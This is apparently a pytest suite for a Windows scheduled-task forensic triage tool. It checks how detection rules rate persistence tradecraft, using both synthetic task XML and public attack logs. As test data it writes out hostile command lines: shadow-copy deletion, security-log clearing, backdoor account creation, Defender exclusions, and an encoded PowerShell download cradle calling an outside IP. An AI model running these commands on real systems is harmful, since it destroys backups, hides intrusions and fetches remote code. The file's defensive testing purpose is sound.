"""Issue 19 items 2-4 and 21.5: stock baselines, the tradecraft rules, rebuilt command-line tasks, honest titles.

Task definitions are builder-made task XML (test_images.windows_tree) read by the real parser, or real
public logs and task files from ../shared/corpus; every check is the one a run applies.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from test_images.taskxml import el, render
from test_images.windows_tree import exec_action, principal, registration_info, schtasks_settings, task_element
from triage.cli import main
from triage.collect import Context
from triage.correlate import correlate
from triage.detect import RISK_ORDER, JudgeContext, build_findings
from triage.detect.baseline import is_stock_name, load_baseline, release_of
from triage.parsers.evtx_task import task_event, task_folders, unlink_folder_events
from triage.parsers.task_xml import parse_task_xml
from triage.records import HostInfo, Provenance
from triage.run import CHECKS, run

CORPUS = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus"
ATTACK = CORPUS / "sbousseaden__EVTX-ATTACK-SAMPLES"
WIN10_TASKS = CORPUS / "AndrewRathbun__DFIRArtifactMuseum/Windows/ScheduledTasks/Win10/APTSimulatorVM"
BELKASOFT_LOG = (CORPUS / "AndrewRathbun__DFIRArtifactMuseum/Windows/EventLogs/Win10/BelkasoftCTF_InsiderThreat/"
                 "BelkasoftCTF_InsiderThreat.7z.extracted/Microsoft-Windows-TaskScheduler%4Operational.evtx")
USER_SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
HOST = "WS-TEST-01"


def _xml(task: str, command: str, arguments: str | None = None, *, user: str = USER_SID, run_level: str = "LeastPrivilege",
         interval: str | None = None, hidden: bool = False) -> bytes:
    repetition = (el("Repetition", el("Interval", interval), el("StopAtDurationEnd", "false")),) if interval else ()
    trigger = el("TimeTrigger", *repetition, el("StartBoundary", "2024-03-12T09:00:00"), el("Enabled", "true"))
    return render(task_element(registration_info(task, "2024-03-12T09:00:00", rf"{HOST}\analyst"), (trigger,),
                               schtasks_settings(hidden), (exec_action(command, arguments),), principal(user, run_level)))


def _definition(task: str, *args, **kwargs):
    definition = parse_task_xml(_xml(task, *args, **kwargs), task=task, local_tz=None,
                                provenance=Provenance(artifact="task_xml", location=f"Windows/System32/Tasks{task}"))
    definition.host = HOST
    return definition


def _judge(definitions=(), events=(), hosts=()):
    entities, _ = correlate(list(definitions), list(events), [], [])
    ctx = JudgeContext(hunt_date="20260101", baseline=load_baseline(list(hosts)))
    return build_findings([(e, [h for check in CHECKS for h in check(e, ctx)]) for e in entities], ctx)


def _one(findings, task):
    found = [f for f in findings if f.task == task]
    assert len(found) == 1, [(f.task, f.rule) for f in findings]
    return found[0]


def _rules(finding) -> set[str]:
    return {r["rule"] for r in finding.details["reasons"]}


# -- honest titles: words in paths are not behaviour ---------------------------------------------------

@pytest.mark.parametrize("task,command,arguments", [
    (r"\AdBlocker Update", r"C:\Program Files\AdBlocker\abupdate.exe", "/silent"),
    (r"\Dell\EmsPolicyRefresh", r"C:\Program Files\Dell\Dell Data Protection\Encryption\EmsPolicyRefresh.exe", None),
])
def test_hostile_looking_benign_tasks_stay_below_medium(task, command, arguments):
    findings = _judge([_definition(task, command, arguments, user="S-1-5-18")])
    assert all(RISK_ORDER[f.risk_level] < RISK_ORDER["Medium"] for f in findings), [(f.title, f.risk_level) for f in findings]
    assert not any("shadow" in f.title.lower() or "ransom" in f.title.lower() for f in findings)


def test_shadow_copy_deletion_is_still_critical_with_a_title_that_says_so():
    finding = _one(_judge([_definition(r"\Cleanup", "cmd.exe", "/c vssadmin.exe delete shadows /all /quiet")]), r"\Cleanup")
    assert finding.risk_level == "Critical" and finding.title.startswith("Task deletes shadow copies or backups")


# -- the tradecraft rules ----------------------------------------------------------------------------

def test_hidden_window_powershell_every_two_minutes_under_a_user_is_raised_above_high():
    task = r"\Updater"
    finding = _one(_judge([_definition(task, "powershell.exe", "-WindowStyle Hidden -nop -c \"iex (gc $env:TEMP\\u.txt)\"",
                                       interval="PT2M")]), task)
    assert {"hidden_powershell", "very_short_repetition"} <= _rules(finding)
    assert finding.risk_level == "Critical"  # High, raised one level by the 2-minute repetition
    assert "raised: very_short_repetition" in finding.title


def test_every_two_minutes_alone_is_only_low():
    # repetition is a raiser of other reasons, never a finding worth Medium on its own (a benign poller repeats too)
    finding = _one(_judge([_definition(r"\Poll", r"C:\Program Files\Poll\poll.exe", interval="PT2M")]), r"\Poll")
    assert finding.risk_level == "Low" and _rules(finding) == {"short_repetition", "very_short_repetition"}


def test_every_thirty_minutes_alone_raises_nothing():
    finding = _one(_judge([_definition(r"\Sync", r"C:\Program Files\Sync\sync.exe", interval="PT30M")]), r"\Sync")
    assert finding.risk_level == "Low" and _rules(finding) == {"short_repetition"}


@pytest.mark.parametrize("arguments,rule", [
    ("/c net user backup P@ssw0rd1 /add", "account_creation"),
    ("/c wevtutil cl Security", "log_clearing"),
    ("-c Add-MpPreference -ExclusionPath C:\\ProgramData\\svc", "defender_exclusion"),
])
def test_account_creation_log_clearing_and_defender_exclusions_are_high(arguments, rule):
    command = "powershell.exe" if arguments.startswith("-c") else "cmd.exe"
    finding = _one(_judge([_definition(r"\Maint", command, arguments)]), r"\Maint")
    assert rule in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]


def test_script_run_as_system_from_outside_windows_is_high_and_inside_windows_is_not():
    outside = _one(_judge([_definition(r"\Tools", "cmd.exe", r"/c C:\tools\x.cmd", user="S-1-5-18")]), r"\Tools")
    assert "script_privileged_outside_system" in _rules(outside) and outside.risk_level == "High"
    npcap = _judge([_definition(r"\Npcap Watchdog", r'"C:\Program Files\Npcap\CheckStatus.bat"', user="S-1-5-18")])
    assert not any("script_privileged_outside_system" in _rules(f) for f in npcap)


def test_task_under_microsoft_folder_running_a_non_microsoft_program_is_high():
    task = r"\Microsoft\Windows\Maintenance\HealthScan"
    finding = _one(_judge([_definition(task, r"C:\Users\Public\hs.exe")]), task)
    assert "masquerading_microsoft_folder" in _rules(finding) and finding.risk_level == "High"
    office = _judge([_definition(r"\Microsoft\Office\Office ClickToRun Service Monitor",
                                 r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe", "/watchservice")])
    assert not any("masquerading_microsoft_folder" in _rules(f) for f in office)


def test_stock_name_in_a_folder_windows_never_uses_is_medium():
    finding = _one(_judge([_definition(r"\CacheTask", r"C:\ProgramData\cache\ct.exe")]), r"\CacheTask")
    assert "stock_name_wrong_folder" in _rules(finding)
    assert "\\Microsoft\\Windows\\Wininet" in " ".join(e.value for e in finding.evidence)


def test_vendor_name_with_a_program_outside_the_vendor_install_path_is_high_and_the_real_one_is_quiet():
    task = r"\GoogleUpdateTaskMachineUA"
    real = _judge([_definition(task, r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler",
                               user="S-1-5-18")])
    assert real == []
    fake = _one(_judge([_definition(task, r"C:\Users\Public\GoogleUpdate.exe", "/ua", user="S-1-5-18")]), task)
    assert "vendor_name_other_program" in _rules(fake) and fake.risk_level == "High"


def test_gpp_cpassword_of_the_built_image_is_a_credential_finding(committed_windows_e01):
    case = run([str(committed_windows_e01)], Context(quiet=True), hunt_date="20260101")
    exposed = [f for f in case.findings if "gpp_cpassword" in _rules(f)]
    assert {f.task for f in exposed} == {r"\Deploy Helpdesk Tool", r"\Inventory Agent"}
    assert all("T1552.006" in f.techniques for f in exposed)
    # decoded PowerShell reaches every content rule: the cradle exists only inside -EncodedCommand
    encoded = _one(case.findings, r"\Microsoft\Windows\UpdateOrchestrator\USO_Health")
    assert {"download_cradle", "encoded_powershell"} <= _rules(encoded)


def test_encoded_download_cradle_is_seen_through_the_encoding():
    payload = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')".encode("utf-16-le")).decode()
    finding = _one(_judge([_definition(r"\Telemetry", "powershell.exe", f"-enc {payload}")]), r"\Telemetry")
    assert {"download_cradle", "encoded_powershell", "hidden_powershell"} <= _rules(finding)
    assert any("198.51.100.7" in e.value for e in finding.evidence)


# -- task-creating command lines in logs -------------------------------------------------------------

def _event(fields: dict):
    base = {"Channel": "Security", "EventID": 4688, "TimeCreated_SystemTime": "2024-03-12T09:00:00.000000Z",
            "EventRecordID": 77, "Computer": f"{HOST}.corp.example", "SubjectUserName": "analyst",
            "SubjectDomainName": "CORP", "NewProcessName": r"C:\Windows\System32\schtasks.exe"}
    return task_event({**base, **fields}, location="Security.evtx")


def test_schtasks_minute_script_as_system_from_a_4688_command_line_is_judged_like_a_definition():
    event = _event({"CommandLine": r"schtasks /create /sc minute /mo 1 /tn NAME /tr C:\tools\x.cmd /ru SYSTEM"})
    finding = _one(_judge(events=[event]), r"\NAME")
    assert {"script_privileged_outside_system", "very_short_repetition"} <= _rules(finding)
    assert finding.risk_level == "Critical"


def test_remote_creation_seen_only_as_a_4688_command_line_is_high():
    event = _event({"CommandLine": r'schtasks /create /s OTHERHOST /u CORP\adm /p x /tn Upd /tr "C:\Windows\Temp\u.exe" /sc onstart /ru SYSTEM'})
    finding = _one(_judge(events=[event]), r"\Upd")
    assert "remote_task_creation" in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]
    [definition] = [d for d in correlate([], [event], [], [])[0][0].definitions]
    assert definition.details["remote_target"] == "OTHERHOST"
    assert definition.details["creating_user"] == r"CORP\analyst" and definition.details["creating_host"] == f"{HOST}.corp.example"
    local = _event({"CommandLine": "schtasks /create /s localhost /tn Loc /tr calc.exe /sc daily"})
    assert not any("remote_task_creation" in _rules(f) for f in _judge(events=[local]))


def test_quoted_name_in_cmd_c_makes_one_task_and_folder_events_make_none():
    creation = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": r"C:\Windows\System32\cmd.exe",
                       "CommandLine": 'cmd /C "schtasks /create /xml x.xml /tn \\Vendor\\NAME"', "User": r"CORP\analyst"})
    folder = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "EventRecordID": 78,
                     "TargetFilename": r"C:\Windows\System32\Tasks\Vendor", "Image": r"C:\Windows\System32\svchost.exe"})
    file = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "EventRecordID": 79,
                   "TargetFilename": r"C:\Windows\System32\Tasks\Vendor\NAME", "Image": r"C:\Windows\System32\svchost.exe"})
    events = [creation, folder, file]
    assert unlink_folder_events(events, task_folders(e.task for e in events)) == 1
    entities, _ = correlate([], events, [], [])
    assert [e.task for e in entities] == [r"\Vendor\NAME"]


@pytest.mark.usefixtures("corpus")
def test_task_known_only_from_events_shows_its_action_not_the_creating_command(capsys):
    log = ATTACK / "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
    main([str(log), "--task", r"\MSOFFICE_", "-q", "--hunt-date", "20260101"])
    out = capsys.readouterr().out
    actions = next(line for line in out.splitlines() if line.startswith("Actions:"))
    assert actions == "Actions: mshta.exe https://hotelesms.com/Injection.txt"


@pytest.mark.usefixtures("corpus")
def test_create_run_delete_by_schtasks_command_lines_is_high_on_the_real_winpwnage_log():
    """WinPwnage elevate: schtasks /create /xml %TEMP%\\elevator.xml, /run, /delete ten seconds later (Sysmon 1)."""
    case = run([str(ATTACK / "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx")], Context(quiet=True),
               hunt_date="20260101")
    finding = _one(case.findings, r"\elevator")
    assert "task_created_then_deleted" in _rules(finding) and finding.risk_level == "High"
    assert "under a minute" in finding.title
    created = [e.value for e in finding.evidence if "/create" in e.value]
    deleted = [e.value for e in finding.evidence if "/delete" in e.value]
    assert len(created) == 1 and len(deleted) == 1


@pytest.mark.usefixtures("corpus")
def test_task_created_by_rundll32_is_high_and_names_the_loader_on_the_real_malware_log():
    case = run([str(ATTACK / "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx")], Context(quiet=True),
               hunt_date="20260101")
    finding = _one(case.findings, r"\DataUsageHandlers")
    assert "created_by_loader" in _rules(finding) and finding.risk_level == "High"
    [entity] = [e for e in case.entities if e.task == r"\DataUsageHandlers"]
    parents = {d.details.get("creating_parent_image") for d in entity.definitions}
    assert parents == {r"C:\Windows\SysWOW64\rundll32.exe", r"C:\Windows\SysWOW64\cmd.exe"}
    assert {d.details.get("xml_file") for d in entity.definitions} == {r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp"}


def test_windows_installer_custom_action_creating_a_task_through_rundll32_is_not_the_loader_rule():
    """MSI custom actions run schtasks through rundll32 too (SigmaHQ dd2a821e filters them); only the
    ParentCommandLine tells them apart."""
    fields = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": r"C:\Windows\SysWOW64\schtasks.exe",
              "CommandLine": r"schtasks /Create /f /XML C:\Users\u\AppData\Local\Temp\x.tmp /TN Vendor\Update",
              "ParentImage": r"C:\Windows\SysWOW64\rundll32.exe", "User": r"CORP\analyst"}
    loader = _event({**fields, "ParentCommandLine": r"rundll32.exe C:\Users\u\AppData\Local\Temp\a.dll,Start"})
    installer = _event({**fields, "ParentCommandLine": r"C:\Windows\syswow64\rundll32.exe C:\WINDOWS\Installer\MSI1A2B.tmp,"
                                                       r"zzzzInvokeManagedCustomActionOutOfProc SfxCA_1 2 Vendor!Vendor.CA.Run"})
    assert "created_by_loader" in _rules(_one(_judge(events=[loader]), r"\Vendor\Update"))
    assert not any("created_by_loader" in _rules(f) for f in _judge(events=[installer]))


@pytest.mark.usefixtures("corpus")
def test_user_process_starting_queuereporting_is_medium_on_the_real_wertrigger_log():
    case = run([str(ATTACK / "Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx")], Context(quiet=True),
               hunt_date="20260101")
    finding = _one(case.findings, r"\Microsoft\Windows\Windows Error Reporting\QueueReporting")
    assert finding.risk_level == "Medium" and finding.rule == "sigma:8a2d5c71-0e94-4b6f-b3c8-5d7e1f9a2c46"
    assert any("WerTrigger.exe" in e.value for e in finding.evidence)


@pytest.mark.usefixtures("corpus")
def test_user_environment_systemroot_override_is_high_on_the_real_cdssync_bypass_log():
    case = run([str(ATTACK / "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx")],
               Context(quiet=True), hunt_date="20260101")
    [finding] = [f for f in case.findings if f.rule == "sigma:3f0c6b2e-7d41-4c8e-9a55-2b1d8e6f0a31"]
    assert finding.risk_level == "High" and "T1548.002" in {finding.technique, *finding.techniques}
    assert any(r"Environment\systemroot" in e.value for e in finding.evidence)


@pytest.mark.usefixtures("corpus")
def test_create_then_delete_within_seconds_is_high_on_the_real_atexec_log():
    case = run([str(ATTACK / "Execution/temp_scheduled_task_4698_4699.evtx")], Context(quiet=True), hunt_date="20260101")
    finding = _one(case.findings, r"\CYAlyNSS")
    assert "task_created_then_deleted" in _rules(finding) and finding.risk_level == "High"
    assert {e.source for e in finding.evidence} >= {"Security 4698", "Security 4699"}


# -- stock baselines ---------------------------------------------------------------------------------

@pytest.mark.parametrize("os_text,release", [
    ("Windows 10 Pro (NT 10.0) 19045.4170", "10"),
    ("Windows 10 Pro (NT 10.0) 22631.2861", "11"),  # Windows 11 keeps ProductName "Windows 10"
    ("Windows Server 2016 Standard (NT 10.0) 14393.0", "2016"),
    ("Windows Server 2019 Datacenter (NT 10.0) 17763.1", "2019"),
    ("Windows Server 2022 Standard (NT 10.0) 20348.1", "2022"),
    ("Windows Server 2012 R2 Standard (NT 6.3) 9600", "2012R2"),
    ("Windows 8.1 Pro (NT 6.3) 9600", "8.1"),
    ("Windows 7 Professional (NT 6.1) 7601", "7"),
    (None, None),
])
def test_release_is_read_from_product_name_and_build(os_text, release):
    assert release_of(os_text) == release


@pytest.mark.usefixtures("corpus")
def test_real_windows10_task_folder_raises_nothing_at_medium_for_its_stock_tasks():
    definitions = []
    files = sorted(p for p in WIN10_TASKS.rglob("*") if p.is_file())
    for path in files:
        task = "\\" + str(path.relative_to(WIN10_TASKS)).replace("/", "\\")
        definition = parse_task_xml(path.read_bytes(), task=task, local_tz=None,
                                    provenance=Provenance(artifact="task_xml", location=str(path)))
        definition.host = "DESKTOP-TMKU40H"
        definitions.append(definition)
    hosts = [HostInfo(hostname="DESKTOP-TMKU40H", os="Windows 10 Pro (NT 10.0) 19044.1586")]
    findings = _judge(definitions, hosts=hosts)
    loud = {f.task: f.risk_level for f in findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]}
    assert len(definitions) == len(files) > 200
    assert loud == {r"\GameOver": "Critical"}  # APTSimulator's mimikatz task, the folder's one malicious entry


def test_stock_action_of_another_release_is_judged_by_the_host_release():
    task = r"\Microsoft\Windows\Defrag\ScheduledDefrag"
    server_variant = _definition(task, r"%windir%\system32\defrag.exe", "-c -h -k -g -$", user="S-1-5-18")
    server = [HostInfo(hostname=HOST, os="Windows Server 2016 Standard (NT 10.0) 14393.0")]
    assert _judge([server_variant], hosts=server) == []
    hijacked = _definition(task, r"C:\ProgramData\defrag.exe", "-c -h -k -g -$", user="S-1-5-18")
    finding = _one(_judge([hijacked], hosts=server), task)
    assert "stock_task_changed" in _rules(finding) and finding.risk_level == "High"
    assert "defrag.exe -c -h -k -g -$" in finding.evidence[0].value  # the stock action of Server 2016
    assert is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline(server))
    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
    assert not is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline(windows10))
    # event logs name the host by FQDN, the registry by its short name: the same host, the same release
    assert not is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", f"{HOST}.corp.example", load_baseline(windows10))
    assert is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline([]))  # unknown: union


def test_server_2019_listing_is_its_own_release_with_its_own_stock_actions():
    """tools/baseline_sources/server2019_ec2_jaws.tsv: a Server 2019 host knows its Server-only tasks and their actions."""
    server2019 = [HostInfo(hostname=HOST, os="Windows Server 2019 Datacenter (NT 10.0) 17763.1457")]
    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
    task = r"\Microsoft\Windows\Server Initial Configuration Task"
    assert is_stock_name(task, HOST, load_baseline(server2019)) and not is_stock_name(task, HOST, load_baseline(windows10))
    stock = _definition(task, r"%windir%\system32\srvinitconfig.exe", "/disableconfigtask", user="S-1-5-18")
    assert _judge([stock], hosts=server2019) == []
    hijacked = _definition(task, r"C:\Users\Public\srvinitconfig.exe", "/disableconfigtask", user="S-1-5-18")
    finding = _one(_judge([hijacked], hosts=server2019), task)
    assert "stock_task_changed" in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]
    assert "2019" in load_baseline(server2019)["covered"]
    assert {v["source"] for v in load_baseline(server2019)["tasks"][task.lower()]["variants"]} == {"server2019-ec2-jaws"}


def test_server_2012_r2_listing_knows_its_own_tasks_and_actions():
    """tools/baseline_sources/server2012r2_optimum_jaws.tsv: RacTask (gone in Windows 10) and 2012 R2's own
    QueueReporting action (wermgr.exe -queuereporting, run as Users)."""
    server2012r2 = [HostInfo(hostname=HOST, os="Windows Server 2012 R2 Standard (NT 6.3) 9600")]
    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
    assert "2012R2" in load_baseline(server2012r2)["covered"]
    rac = r"\Microsoft\Windows\RAC\RacTask"
    assert is_stock_name(rac, HOST, load_baseline(server2012r2)) and not is_stock_name(rac, HOST, load_baseline(windows10))
    task = r"\Microsoft\Windows\Windows Error Reporting\QueueReporting"
    stock = _definition(task, r"%windir%\system32\wermgr.exe", "-queuereporting", user="S-1-5-32-545")
    assert _judge([stock], hosts=server2012r2) == []
    hijacked = _definition(task, r"C:\ProgramData\wermgr.exe", "-queuereporting", user="S-1-5-32-545")
    assert "stock_task_changed" in _rules(_one(_judge([hijacked], hosts=server2012r2), task))


def test_windows_11_export_knows_its_own_tasks_and_actions():
    """tools/baseline_sources/win11_25h2_wincfg.tsv: Windows 11's Recall task, and its SilentCleanup action
    (cleanmgr.exe /autocleanstoragesense), quiet on Windows 11; a hijacked program is still a finding."""
    windows11 = [HostInfo(hostname=HOST, os="Windows 11 Pro (NT 10.0) 26200.1")]
    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
    assert "11" in load_baseline(windows11)["covered"]
    recall = r"\Microsoft\Windows\WindowsAI\Recall\InitialConfiguration"
    assert is_stock_name(recall, HOST, load_baseline(windows11)) and not is_stock_name(recall, HOST, load_baseline(windows10))
    task = r"\Microsoft\Windows\DiskCleanup\SilentCleanup"
    stock = _definition(task, r"%windir%\system32\cleanmgr.exe", "/autocleanstoragesense /d %systemdrive%",
                        user="S-1-5-32-545", run_level="HighestAvailable")
    assert _judge([stock], hosts=windows11) == []
    hijacked = _definition(task, r"C:\Users\Public\cleanmgr.exe", "/autocleanstoragesense /d %systemdrive%",
                           user="S-1-5-32-545", run_level="HighestAvailable")
    assert "stock_task_changed" in _rules(_one(_judge([hijacked], hosts=windows11), task))


def test_real_windows10_task_log_alone_gives_no_medium_finding_from_the_rules():
    case = run([str(BELKASOFT_LOG)], Context(quiet=True), hunt_date="20260101")
    ours = {"stock_task_changed", "stock_name_wrong_folder", "vendor_name_other_program", "task_created_then_deleted"}
    loud = [(f.task, f.rule) for f in case.findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]
            and (_rules(f) & ours or any(r.startswith("sigma:") for r in _rules(f)))]
    assert loud == []


# -- the public attack samples, logs only -------------------------------------------------------------

DETECTED = {  # file -> a task (or rule title) found at Medium or above
    "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx": r"\DataUsageHandlers",
    "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx": r"\spawn",
    "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx": r"\mysc",
    "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx": r"\MSOFFICE_",
    "Execution/sysmon_exec_from_vss_persistence.evtx": r"\eyNQLDvUSuvVPg",
    "Execution/temp_scheduled_task_4698_4699.evtx": r"\CYAlyNSS",
    "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx": r"\CYAlyNSS",
    "Lateral Movement/remote task update 4624 4702 same logonid.evtx": r"\LMST",
    "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx": r"\FullPowersTask",
    "Privilege Escalation/Sysmon_UACME_34.evtx": "(no task) UAC Bypass Using Disk Cleanup",
    "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx": r"\elevator",
    "Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx": r"\Microsoft\Windows\Windows Error Reporting\QueueReporting",
    "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx":
        "(no task) User Environment Overrides windir or SystemRoot (Scheduled-Task UAC Bypass)",
}
QUIET = {  # benign noise or context only (PROVENANCE.md notes), must stay below Medium
    "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx",
    "Lateral Movement/LM_sysmon_remote_task_src_powershell.evtx",
    "Privilege Escalation/PrivEsc_CVE-2020-1313_Sysmon_13_UScheduler_Cmdline.evtx",
}


@pytest.mark.usefixtures("corpus")
def test_attack_samples_found_from_logs_alone():
    """Before issue 19 the shipped rules found 5 of these 18 logs at Medium or above; now 13 (the rest
    are benign noise, context without a task event, or task runs whose creation is not in the log)."""
    loud = {}
    for path in sorted(ATTACK.rglob("*.evtx")):
        case = run([str(path)], Context(quiet=True), hunt_date="20260101")
        loud[str(path.relative_to(ATTACK))] = {f.task for f in case.findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]}
    assert len(loud) == 18
    assert {name for name, tasks in loud.items() if tasks} == set(DETECTED)
    assert all(task in loud[name] for name, task in DETECTED.items())
    assert all(not loud[name] for name in QUIET)


@pytest.mark.usefixtures("corpus")
def test_task_registered_in_a_network_logon_session_is_remote_creation_on_the_real_logs():
    """4702 written in the session a 4624 type 3 logon opened (same logon id): changed from another computer."""
    case = run([str(ATTACK / "Lateral Movement/remote task update 4624 4702 same logonid.evtx")], Context(quiet=True),
               hunt_date="20260101")
    finding = _one(case.findings, r"\LMST")
    assert "remote_task_creation" in _rules(finding)
    [entity] = [e for e in case.entities if e.task == r"\LMST"]
    session = next(d.details["created_over_network_logon"] for d in entity.definitions if d.source == "evtx_4702")
    assert session["logon_id"] and session["source_address"] and session["account"]
    local = run([str(ATTACK / "Execution/temp_scheduled_task_4698_4699.evtx")], Context(quiet=True), hunt_date="20260101")
    assert "remote_task_creation" not in _rules(_one(local.findings, r"\CYAlyNSS"))  # no 4624 in that log
